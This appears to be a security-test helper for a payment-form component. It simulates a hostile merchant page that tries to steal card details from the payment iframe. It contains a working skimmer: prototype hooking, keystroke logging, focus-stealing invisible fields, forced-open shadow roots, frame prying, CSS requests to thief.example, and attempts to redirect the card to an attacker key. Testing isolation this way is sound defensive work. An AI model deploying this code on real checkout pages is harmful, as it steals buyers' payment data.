// What a script in the shop's page can do to read what a buyer types: one that came first, and holds everything that
// pages hold. Runs in the page, so it may use nothing from here.

import type { PayChangeEvent } from "../../../src/elements/index.ts";

/** What was seen, by the way in which. */
export type Loot = Record<string, string>;

declare global {
  /** What the script of `hostile` has seen so far. */
  var loot: () => Loot;
  /** Asks the form's frame for all that it might give away, and to pay for another order as well. */
  var attack: (otherOrder: string) => Promise<void>;
}

/** Ways in which a page takes the keys from a frame, by what it does. Each runs in the page. */
export const THEFTS: Record<string, () => void> = {
  "focuses an invisible field of its own": () => {
    const field = document.createElement("input");
    field.id = "thief";
    field.style.cssText = "position: fixed; opacity: 0";
    document.body.append(field);
    field.focus();
  },
  "takes the focus from the frame": () => {
    const inner = (root: Document | ShadowRoot): Element | null => {
      const active = root.activeElement;
      return (active?.shadowRoot && inner(active.shadowRoot)) ?? active;
    };
    (inner(document) as HTMLElement).blur();
  },
  "hides the form and focuses a button": () => {
    const button = document.createElement("button");
    document.body.append(button);
    document.querySelector<HTMLElement>("pay-card")!.style.display = "none";
    button.focus();
  },
};

/** Does the first of `THEFTS` as soon as it is told a brand: to be called in the page. */
export function stealOnBrand(): void {
  const field = document.createElement("input");
  field.id = "thief";
  field.style.cssText = "position: fixed; opacity: 0";
  document.body.append(field);
  document.addEventListener("pay-change", (event) => {
    if ((event as PayChangeEvent).detail.brand) field.focus();
  });
}

/** Does the first of `THEFTS` so many milliseconds after the form has the focus, before a key: to be called in the page. */
export function stealOnFocus(wait: number): void {
  const field = document.createElement("input");
  field.id = "thief";
  field.style.cssText = "position: fixed; opacity: 0";
  document.body.append(field);
  addEventListener("blur", () => setTimeout(() => field.focus(), wait), { once: true });
}

/** To be called before any other script of the page. */
export function hostile(): void {
  const seen: Record<string, string[]> = {};
  const { stringify } = JSON;
  const { defineProperty, getOwnPropertyDescriptor, getOwnPropertyNames } = Object;
  const { apply } = Reflect;
  let busy = false;

  function see(way: string, ...things: unknown[]): void {
    if (busy) return;
    busy = true;
    for (const thing of things) {
      try {
        const text = typeof thing === "string" ? thing : stringify(thing);
        if (text) (seen[way] ??= [])[seen[way]!.length] = text;
      } catch {
        // Cyclic, or of another origin.
      }
    }
    busy = false;
  }
  globalThis.loot = () =>
    Object.fromEntries(
      Object.entries(seen).map(([way, texts]) => [way, texts.join(way === "keys" ? "" : "\n")]),
    );

  type Method = (this: unknown, ...args: never[]) => unknown;
  /** Lies in wait at a method: for what goes in, what comes out, and what it is called on. */
  function tap(
    owner: object,
    name: string,
    way: string,
    more?: (self: unknown, args: unknown[], result: unknown) => void,
  ) {
    const { value } = getOwnPropertyDescriptor(owner, name) ?? {};
    if (typeof value !== "function") return;
    const original = value as Method;
    (owner as Record<string, unknown>)[name] = function (this: unknown, ...args: never[]) {
      const result = apply(original, this, args);
      see(way, ...args, result);
      if (typeof this === "string") see(way, this);
      more?.(this, args, result);
      return result;
    };
  }
  /** Lies in wait at a property. */
  function tapProperty(owner: object, name: string, way: string, handler = false) {
    const { get, set } = getOwnPropertyDescriptor(owner, name) ?? {};
    if (!get || !set) return;
    defineProperty(owner, name, {
      configurable: true,
      get(this: unknown) {
        const value: unknown = apply(get, this, []);
        see(way, value);
        return value;
      },
      set(this: unknown, value: unknown) {
        see(way, value);
        const listener = value as (event: Event) => unknown;
        const wrapped = (event: Event) => {
          look(event);
          return apply(listener, this, [event]);
        };
        apply(set, this, [handler && typeof value === "function" ? wrapped : value]);
      },
    });
  }

  const roots = new Set<Document | ShadowRoot>([document]);
  const ports = new Set<MessagePort>();
  const said: unknown[] = [];
  const pressed = new WeakSet<Event>();

  /** All that an event tells. */
  function look(event: Event): void {
    const { key, data, target, clipboardData, detail } = event as unknown as Record<string, unknown>;
    if (event.type === "keydown" && typeof key === "string" && key.length === 1 && !pressed.has(event)) {
      pressed.add(event);
      see("keys", key);
    }
    see("events", data, detail);
    see("events", (target as HTMLInputElement | null)?.value);
    for (const each of event.composedPath()) see("events", (each as HTMLInputElement).value);
    if (clipboardData) see("events", (clipboardData as DataTransfer).getData("text"));
  }

  // Before anybody else hears of them.
  const types =
    "keydown keypress keyup beforeinput input change paste copy cut focusin focusout pointerdown submit message error " +
    "compositionend selectionchange autofill pay-change pay-submit pay-success pay-error";
  for (const type of types.split(" ")) {
    for (const place of [window, document]) place.addEventListener(type, look, { capture: true });
  }
  const listen = EventTarget.prototype.addEventListener;
  EventTarget.prototype.addEventListener = function (type, listener, options) {
    if (typeof listener !== "function") return apply(listen, this, [type, listener, options]) as void;
    const wrapped = function (this: unknown, event: Event): unknown {
      look(event);
      return apply(listener, this, [event]);
    };
    apply(listen, this, [type, wrapped, options]);
  };

  // Closed doors are opened, and what goes through is looked at.
  const attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) {
    const root = attach.call(this, { ...init, mode: "open" });
    roots.add(root);
    watch.observe(root, EVERYTHING);
    return root;
  };
  tapProperty(HTMLInputElement.prototype, "value", "values");
  tapProperty(HTMLElement.prototype, "innerText", "values");
  tapProperty(Node.prototype, "textContent", "values");
  tapProperty(CharacterData.prototype, "data", "values");
  tapProperty(MessagePort.prototype, "onmessage", "messages", true);
  for (const [owner, names, way] of [
    [window, "fetch postMessage structuredClone btoa", "calls"],
    [XMLHttpRequest.prototype, "open send", "calls"],
    [Navigator.prototype, "sendBeacon", "calls"],
    [JSON, "stringify parse", "json"],
    [TextEncoder.prototype, "encode", "encoding"],
    [SubtleCrypto.prototype, "encrypt wrapKey digest", "encoding"],
    [
      String.prototype,
      "replace replaceAll split slice trim charAt charCodeAt codePointAt padStart",
      "language",
    ],
    [Array.prototype, "join push map", "language"],
    [RegExp.prototype, "exec test", "language"],
    [Map.prototype, "set", "language"],
    [WeakMap.prototype, "set", "language"],
    [FormData.prototype, "append get", "values"],
    [Element.prototype, "setAttribute", "values"],
    [Storage.prototype, "setItem", "storage"],
    [console, "log warn error debug", "console"],
  ] as const) {
    for (const name of names.split(" ")) tap(owner, name, way);
  }
  tap(MessagePort.prototype, "postMessage", "messages", (self, [message]) => {
    ports.add(self as MessagePort);
    said.push(message);
  });
  const Channel = MessageChannel;
  globalThis.MessageChannel = class extends Channel {
    constructor() {
      super();
      ports.add(this.port1);
      this.port1.addEventListener("message", look);
    }
  };
  const define = customElements.define.bind(customElements);
  customElements.define = (name, element, options) => {
    // Whatever the element's class has is called through the script.
    for (const method of getOwnPropertyNames(element.prototype)) {
      if (method !== "constructor") tap(element.prototype as object, method, "class");
    }
    define(name, element, options);
  };

  const EVERYTHING = { subtree: true, childList: true, characterData: true, attributes: true };
  const watch = new MutationObserver((records) => {
    for (const { target, attributeName } of records) {
      see("mutations", target.textContent, attributeName && (target as Element).getAttribute(attributeName));
    }
  });
  watch.observe(document, EVERYTHING);
  new PerformanceObserver((list) =>
    see("performance", ...list.getEntries().map((entry) => entry.toJSON() as object)),
  ).observe({
    entryTypes: ["resource", "event", "mark", "measure", "longtask"],
  });

  /** Goes everywhere: roots, fields, frames, storage, the address. */
  function walk(): void {
    for (const root of roots) {
      for (const element of root.querySelectorAll("*")) {
        see(
          "walk",
          (element as HTMLInputElement).value,
          ...[...element.attributes].map(({ value }) => value),
        );
        see("walk", ...Object.values(element), ...Object.values((element as HTMLElement).dataset ?? {}));
        if (element.shadowRoot) roots.add(element.shadowRoot);
        if (element instanceof HTMLIFrameElement) pry(element.contentWindow, () => element.contentDocument);
      }
      see("walk", root.textContent);
    }
    for (let index = 0; index < window.frames.length; index++) pry(window.frames[index]!, () => undefined);
    see(
      "walk",
      document.cookie,
      location.href,
      history.state,
      name,
      document.title,
      getSelection()?.toString(),
    );
    see("storage", ...Object.values(localStorage), ...Object.values(sessionStorage));
  }

  /** Looks into another window, as far as it lets anybody. */
  function pry(other: Window | null, content: () => Document | null | undefined): void {
    const questions = [
      () => content()?.documentElement.outerHTML,
      () => other?.document.documentElement.outerHTML,
      () => other?.location.href,
      () => other?.name,
      () => other?.getSelection()?.toString(),
      () => other?.frames.length,
      () => (other as unknown as typeof globalThis).loot(),
      () => other?.addEventListener("keydown", look, true),
    ];
    for (const ask of questions) {
      try {
        see("frames", ask());
      } catch {
        // Of another origin.
      }
    }
  }
  setInterval(walk, 50);

  globalThis.attack = async (otherOrder) => {
    const frame = [...roots]
      .map((root) => root.querySelector<HTMLIFrameElement>("[part~=form]"))
      .find(Boolean);
    const show = said.findLast(
      (message) => typeof message === "object" && message !== null && "view" in message,
    );
    if (!frame || !show) return;
    const from = (port: MessagePort, way: string) =>
      port.addEventListener("message", ({ data }) => see(way, data));
    const words = [
      "value",
      "read",
      "get",
      "dump",
      "state",
      "validate",
      "prepare",
      "eval",
      "clone",
      "__proto__",
    ];
    const guesses: unknown[] = words.flatMap((word) => [
      word,
      { type: word },
      { [word]: true },
      { method: word },
    ]);

    // To the window, with ports of its own; to the port of the page's element, as that.
    for (const guess of ["pay-card", ...guesses]) {
      const { port1, port2 } = new Channel();
      from(port1, "answers");
      port1.start();
      frame.contentWindow!.postMessage(guess, "*", [port2]);
    }
    for (const port of ports) {
      for (const guess of guesses) port.postMessage(guess);
    }

    // Other ranges of digits below the number: the brand that it then has would tell whether it lies in them.
    const { view } = show as { view: { order: object; brands: object } };
    const again = (more: object) => ({ ...show, view: { ...view, ...more } });
    const orders: unknown[] = [
      ...["37", "378", "4"].flatMap((range) => [again({ brands: { ranges: { Aura: range } } }), "validate"]),
      { ...show, look: { color: "red", "--pay-surface": "url(https://thief.example/surface)" } },
      { ...show, look: { "background-image": "url(https://thief.example/background)" } },
    ];
    // The card for another order, in the clear or encrypted to the thief, sent by order of the thief, and answered to the
    // thief.
    const algorithm = {
      name: "RSA-OAEP",
      hash: "SHA-256",
      modulusLength: 2048,
      publicExponent: new Uint8Array([1, 0, 1]),
    };
    const { publicKey } = await crypto.subtle.generateKey(algorithm, true, ["wrapKey", "unwrapKey"]);
    const { kty, n, e } = await crypto.subtle.exportKey("jwk", publicKey);
    const wishes = [
      { id: otherOrder },
      { cardKey: undefined },
      { cardKey: { kty, n, e, kid: "thief" } },
      { id: otherOrder, cardKey: undefined },
    ];
    let sent = 0;
    for (const port of ports) {
      for (const order of orders) port.postMessage(order);
      for (const wish of wishes) {
        port.postMessage(again({ order: { ...view.order, ...wish } }));
        port.postMessage("prepare");
        const { port1, port2 } = new Channel();
        const answered = new Promise(
          (resolve) => (port1.onmessage = ({ data }) => resolve(see("answers", data))),
        );
        port.postMessage({ send: `key-of-the-thief-${sent++}` }, [port2]);
        await Promise.race([answered, new Promise((resolve) => setTimeout(resolve, 1_000))]);
      }
      port.postMessage(show);
    }

    // Its own look at the same page, beside the buyer's.
    const own = document.createElement("iframe");
    own.src = frame.src;
    document.body.append(own);
    await new Promise((resolve) => (own.onload = resolve));
    pry(own.contentWindow, () => own.contentDocument);
    for (const entry of performance.getEntries()) see("performance", entry.toJSON());
    own.remove();
  };
}
